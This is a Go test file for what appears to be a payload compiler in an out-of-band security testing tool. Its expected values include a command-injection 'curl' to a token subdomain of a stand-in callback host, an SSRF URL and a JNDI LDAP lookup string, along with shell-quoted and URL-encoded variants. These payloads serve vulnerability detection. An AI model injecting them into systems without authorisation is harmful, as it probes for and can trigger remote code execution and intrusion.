package oob

import (
	"errors"
	"strings"
	"testing"
)

type staticAddresses struct {
	domain string
}

func (a staticAddresses) CallbackAddress(token CorrelationToken) string {
	return string(token) + "." + a.domain
}

func TestCompiler_Deterministic(t *testing.T) {
	compiler := NewCompiler(staticAddresses{domain: "oast.test"})
	spec := PayloadSpec{Environment: EnvLinuxShell, Class: ClassCommandInjection, Delivery: DeliveryRaw}
	token := CorrelationToken("00112233445566778899aabbccddeeff")

	first, err := compiler.Compile(spec, token)
	if err != nil {
		t.Fatalf("Compile returned error: %v", err)
	}
	second, err := compiler.Compile(spec, token)
	if err != nil {
		t.Fatalf("Compile returned error: %v", err)
	}
	if first.Value != second.Value {
		t.Errorf("compile not deterministic:\n first: %s\nsecond: %s", first.Value, second.Value)
	}
}

func TestCompiler_EmbedsCallbackAddress(t *testing.T) {
	compiler := NewCompiler(staticAddresses{domain: "oast.test"})
	token := CorrelationToken("00112233445566778899aabbccddeeff")

	tests := []struct {
		name string
		spec PayloadSpec
		want string
	}{
		{
			name: "linux shell",
			spec: PayloadSpec{Environment: EnvLinuxShell, Class: ClassCommandInjection},
			want: "curl -s http://00112233445566778899aabbccddeeff.oast.test/",
		},
		{
			name: "ssrf url",
			spec: PayloadSpec{Environment: EnvGeneric, Class: ClassSSRF},
			want: "http://00112233445566778899aabbccddeeff.oast.test/",
		},
		{
			name: "jndi lookup",
			spec: PayloadSpec{Environment: EnvJVM, Class: ClassJNDILookup},
			want: "${jndi:ldap://00112233445566778899aabbccddeeff.oast.test/a}",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			payload, err := compiler.Compile(tt.spec, token)
			if err != nil {
				t.Fatalf("Compile returned error: %v", err)
			}
			if !strings.Contains(payload.Value, tt.want) {
				t.Errorf("payload %q does not contain %q", payload.Value, tt.want)
			}
			if payload.Token != token {
				t.Errorf("payload token mismatch: %s", payload.Token)
			}
		})
	}
}

func TestCompiler_DeliveryEncoding(t *testing.T) {
	compiler := NewCompiler(staticAddresses{domain: "oast.test"})
	token := CorrelationToken("aa")

	shellQuoted, err := compiler.Compile(PayloadSpec{
		Environment: EnvLinuxShell, Class: ClassCommandInjection, Delivery: DeliveryShellQuoted,
	}, token)
	if err != nil {
		t.Fatalf("Compile returned error: %v", err)
	}
	if !strings.HasPrefix(shellQuoted.Value, "'") || !strings.HasSuffix(shellQuoted.Value, "'") {
		t.Errorf("shell-quoted payload not quoted: %s", shellQuoted.Value)
	}

	urlEncoded, err := compiler.Compile(PayloadSpec{
		Environment: EnvJVM, Class: ClassJNDILookup, Delivery: DeliveryURLEncoded,
	}, token)
	if err != nil {
		t.Fatalf("Compile returned error: %v", err)
	}
	if strings.ContainsAny(urlEncoded.Value, "${}:/") {
		t.Errorf("url-encoded payload still contains metacharacters: %s", urlEncoded.Value)
	}
}

func TestCompiler_UnsupportedEnvironment(t *testing.T) {
	compiler := NewCompiler(staticAddresses{domain: "oast.test"})

	_, err := compiler.Compile(PayloadSpec{
		Environment: EnvWindowsShell, Class: ClassJNDILookup,
	}, "aa")
	if !errors.Is(err, ErrUnsupportedEnvironment) {
		t.Fatalf("expected ErrUnsupportedEnvironment, got %v", err)
	}
}

func TestShellQuote_NeutralizesQuotes(t *testing.T) {
	quoted := shellQuote(`echo 'pwned'`)
	if quoted != `'echo '\''pwned'\'''` {
		t.Errorf("unexpected quoting: %s", quoted)
	}
}
